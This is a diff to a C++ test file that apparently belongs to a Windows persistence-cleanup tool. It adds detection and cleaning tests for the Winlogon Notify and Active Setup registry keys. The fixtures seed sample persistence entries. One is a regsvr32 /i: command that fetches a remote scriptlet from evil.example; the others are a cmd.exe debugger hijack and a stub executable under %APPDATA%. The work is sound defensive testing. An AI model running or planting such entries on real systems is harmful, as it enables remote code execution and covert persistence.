@@ -23,6 +23,8 @@ const wchar_t kExit[] = L"SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Silen
 const wchar_t kCmd[] = L"Software\\Microsoft\\Command Processor";
 const wchar_t kWinlogon[] = L"Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon";
 const wchar_t kRdpwd[] = L"SYSTEM\\CurrentControlSet\\Control\\Terminal Server\\Wds\\rdpwd";
+const wchar_t kNotify[] = L"SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Notify";
+const wchar_t kActiveSetup[] = L"SOFTWARE\\Microsoft\\Active Setup\\Installed Components";
 
 std::string MultiBytes(const std::wstring& text) { return WideBytes(text) + std::string(2, '\0'); }
 
@@ -35,7 +37,8 @@ struct Seeded {
 class ValuePlaces : public checksupport::CheckTest {
  protected:
   static void RunAll() {
-    for (const wchar_t* tag : {L"RUW", L"RCP", L"RBE", L"RACD", L"RIFEO", L"RTS"}) ModuleValuePlaces::CheckTag(tag);
+    for (const wchar_t* tag : {L"RUW", L"RCP", L"RBE", L"RACD", L"RIFEO", L"RTS", L"RWN", L"RAS"})
+      ModuleValuePlaces::CheckTag(tag);
   }
 };
 
@@ -46,6 +49,10 @@ TEST_F(ValuePlaces, CleanWindowsEntriesPassAndEveryOtherIsAsked) {
       {HKEY_LOCAL_MACHINE, kRdpwd, L"StartupPrograms", {REG_SZ, WideBytes(L"rdpclip")}},
       {HKEY_LOCAL_MACHINE, std::wstring(kIfeo) + L"\\zvnote.exe", L"GlobalFlag", {REG_SZ, WideBytes(L"0x200")}},
       {HKEY_CURRENT_USER, kCmd, L"AutoRun", {REG_SZ, WideBytes(L"")}},
+      {HKEY_LOCAL_MACHINE,
+       std::wstring(kActiveSetup) + L"\\{zv-mail}",
+       L"StubPath",
+       {REG_EXPAND_SZ, WideBytes(L"%SystemRoot%\\system32\\notepad.exe /FirstLogon")}},
   };
   for (const Seeded& s : clean) checksupport::SetValue(s.root, s.key, s.name, s.value);
   {
@@ -74,6 +81,14 @@ TEST_F(ValuePlaces, CleanWindowsEntriesPassAndEveryOtherIsAsked) {
        L"MonitorProcess",
        {REG_SZ, WideBytes(L"C:\\Users\\Public\\mon.exe")}},
       {HKEY_LOCAL_MACHINE, kRdpwd, L"StartupPrograms", {REG_SZ, WideBytes(L"rdpclip,zvstart")}},
+      {HKEY_LOCAL_MACHINE,
+       std::wstring(kNotify) + L"\\zvnotify",
+       L"DllName",
+       {REG_SZ, WideBytes(L"C:\\windows\\system32\\shell32.dll")}},
+      {HKEY_LOCAL_MACHINE,
+       std::wstring(kActiveSetup) + L"\\{zv-evil}",
+       L"StubPath",
+       {REG_SZ, WideBytes(L"regsvr32 /s /i:https://evil.example/a.sct scrobj.dll")}},
   };
   for (const Seeded& s : found) checksupport::SetValue(s.root, s.key, s.name, s.value);
   {
@@ -89,6 +104,8 @@ TEST_F(ValuePlaces, CleanWindowsEntriesPassAndEveryOtherIsAsked) {
                 L"(RIFEO)" + m + L"C:\\windows\\system32\\notepad.exe 跳过,未清除!",
                 L"(RIFEO)" + m + L"C:\\Users\\Public\\mon.exe 跳过,未清除!",
                 L"(RTS)" + m + L"rdpclip,zvstart 跳过,未清除!",
+                L"(RWN)" + m + L"C:\\windows\\system32\\shell32.dll 跳过,未清除!",
+                L"(RAS)" + m + L"regsvr32 /s /i:https://evil.example/a.sct scrobj.dll 跳过,未清除!",
             }),
             ReportLines());
   for (const Seeded& s : found) checksupport::DeleteValue(s.root, s.key, s.name);
@@ -117,6 +134,17 @@ TEST_F(ValuePlaces, CleanChangesAsWindowsHasItAndTheRestoreUndoesIt) {
        {HKEY_LOCAL_MACHINE, std::wstring(kIfeo) + L"\\zvcalc.exe", L"Debugger", {REG_SZ, WideBytes(L"cmd.exe")}},
        false,
        {}},
+      {L"RWN",
+       {HKEY_LOCAL_MACHINE, std::wstring(kNotify) + L"\\zvpkg", L"DllName", {REG_SZ, WideBytes(L"zvpkg.dll")}},
+       false,
+       {}},
+      {L"RAS",
+       {HKEY_LOCAL_MACHINE,
+        std::wstring(kActiveSetup) + L"\\{zv-stub}",
+        L"StubPath",
+        {REG_SZ, WideBytes(L"%APPDATA%\\stub.exe")}},
+       false,
+       {}},
   };
   for (const Case& c : cases) {
     SCOPED_TRACE(testing::PrintToString(std::wstring(c.tag)));
@@ -132,6 +160,10 @@ TEST_F(ValuePlaces, CleanChangesAsWindowsHasItAndTheRestoreUndoesIt) {
     EXPECT_NE(std::wstring::npos, ReportLines()[0].find(L" 已清除!"));
     Stored now;
     ASSERT_EQ(c.present, checksupport::GetValue(s.root, s.key, s.name, &now));
+    HKEY key = nullptr;
+    bool keyStays = RegOpenKeyExW(s.root, s.key.c_str(), 0, KEY_READ, &key) == ERROR_SUCCESS;
+    if (keyStays) RegCloseKey(key);
+    EXPECT_EQ(std::wstring(c.tag) != L"RWN", keyStays) << "a notification package goes with its key";
     if (c.present) {
       EXPECT_EQ(c.after.type, now.type);
       EXPECT_EQ(c.after.data, now.data);
